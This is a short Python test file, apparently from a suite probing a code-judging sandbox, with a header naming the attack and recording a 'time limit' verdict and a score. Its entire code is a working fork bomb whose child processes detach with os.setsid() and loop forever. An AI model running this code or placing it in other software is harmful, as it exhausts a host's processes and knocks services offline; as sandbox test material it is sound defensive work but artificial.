# tries:    a fork bomb whose processes leave their session and never end
# attack:   forks and threads; endless loop
# course:   judged
# vanilla:  untried
# verdict:  time limit
# score:    10
# reason:
# %% scale
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
